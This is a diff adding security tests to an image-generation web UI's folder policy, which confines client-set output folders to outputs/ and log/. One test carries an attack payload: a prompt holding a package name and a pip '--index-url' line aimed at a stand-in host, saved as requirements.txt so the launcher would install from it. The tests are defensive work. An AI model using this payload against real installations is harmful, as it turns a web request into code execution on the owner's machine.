@@ -47,6 +47,46 @@ def test_a_symlink_inside_that_leads_outside_is_refused(tmp_path):
         FolderPolicy(data).resolve("outdir_save", "link/images")
 
 
+def test_inside_the_program_folder_only_outputs_and_log(tmp_path):
+    """Without --data-dir the data folder is the program folder: its code and what the launcher installs
+    (requirements.txt) are closed to clients; outputs/ and log/ (where the default folders are) stay open."""
+    program = tmp_path / "webui"
+    (program / "modules").mkdir(parents=True)
+    policy = FolderPolicy(program, program=program)
+    assert policy.resolve("outdir_samples", "outputs/txt2img-images") == program / "outputs" / "txt2img-images"
+    assert policy.resolve("outdir_save", "log/images") == program / "log" / "images"
+    assert policy.resolve("outdir_save", str(program / "outputs")) == program / "outputs"
+    for bad in (".", "modules", "configs/tokenizer", str(program), "outputs/../modules", "outputs-x", "logs",
+                "./venv/lib"):
+        with pytest.raises(FolderRefused, match=r"^outdir_samples: .* is inside the program folder .* only "
+                                                r"outputs/ and log/"):
+            policy.resolve("outdir_samples", bad)
+    # a symlink in outputs/ that leads back into the program is followed, and refused
+    (program / "outputs").mkdir()
+    os.symlink(program / "modules", program / "outputs" / "link")
+    with pytest.raises(FolderRefused, match="inside the program folder"):
+        policy.resolve("outdir_samples", "outputs/link")
+    # the owner may open a folder there with --allowed-paths
+    assert FolderPolicy(program, (program / "inputs",), program=program).resolve(
+        "Batch: input directory", "inputs/a") == program / "inputs" / "a"
+    # a separate data folder inside the program folder is the user's, and open
+    data = program / "my-data"
+    data.mkdir()
+    inside = FolderPolicy(data, program=program)
+    assert inside.resolve("outdir_samples", "anything") == data / "anything"
+    with pytest.raises(FolderRefused, match="is outside the data folder"):  # the program's outputs/ is not its
+        inside.resolve("outdir_samples", str(program / "outputs" / "x"))
+    with pytest.raises(FolderRefused, match="inside the program folder"):
+        inside.resolve("outdir_samples", "../modules")
+
+
+def test_the_program_folder_is_the_real_one_by_default(tmp_path):
+    from modules import paths
+    assert FolderPolicy(tmp_path).program == paths.ROOT
+    with pytest.raises(FolderRefused, match="inside the program folder"):
+        FolderPolicy(paths.ROOT).resolve("outdir_samples", ".")
+
+
 def test_only_changed_folder_settings_are_checked(tmp_path):
     policy = FolderPolicy(tmp_path)
     current = {"outdir_samples": "/srv/owner-chose-this"}  # written into config.json by the owner
@@ -99,6 +139,38 @@ def test_engine_refuses_folder_settings_outside(data_dir, tmp_path_factory):
         assert victim.read_text() == "keep me"
         engine.set_options({"outdir_txt2img_samples": "my-outputs/t2i"})  # inside: fine
         assert engine.options.values.outdir_txt2img_samples == "my-outputs/t2i"
+    finally:
+        engine.queue.stop()
+
+
+def test_a_client_cannot_replace_requirements_txt_in_the_program_folder(tmp_path, tiny_dir):
+    """The attack that made the program folder closed: an image's .txt saved as requirements.txt in the program
+    folder (the default data folder), which the launcher hands to pip at the next start."""
+    from modules import bootstrap, devices, paths
+    from modules.folders import FolderPolicy as Policy
+    from modules.generation.params import GenerationParams
+    from tests.support.server import setup_data
+
+    program = tmp_path / "webui"
+    setup_data(program, tiny_dir)
+    requirements = program / "requirements.txt"
+    requirements.write_text("torch\n")
+    engine = bootstrap.build_engine(paths.from_args(str(program)), devices.plan(skip_cuda_test=True),
+                                    folders=Policy(program, program=program))
+    engine.options.update({"sd_model_checkpoint": "sd1.safetensors"})
+    try:
+        for folder in (".", str(program), "outputs/.."):
+            attack = GenerationParams(
+                prompt="evilpkg\n--index-url https://example.invalid/simple \\", width=64, height=64, steps=1,
+                save_images=True, override_settings={
+                    "outdir_txt2img_samples": folder, "save_to_dirs": False, "save_txt": True,
+                    "samples_filename_pattern": "requirements", "save_images_add_number": False,
+                    "save_images_replace_action": "Replace"})
+            with pytest.raises(BadRequest, match="outdir_txt2img_samples: .* inside the program folder"):
+                engine.submit_txt2img(attack)
+            with pytest.raises(BadRequest, match="inside the program folder"):
+                engine.set_options({"outdir_txt2img_samples": folder})
+        assert requirements.read_text() == "torch\n"
     finally:
         engine.queue.stop()
 
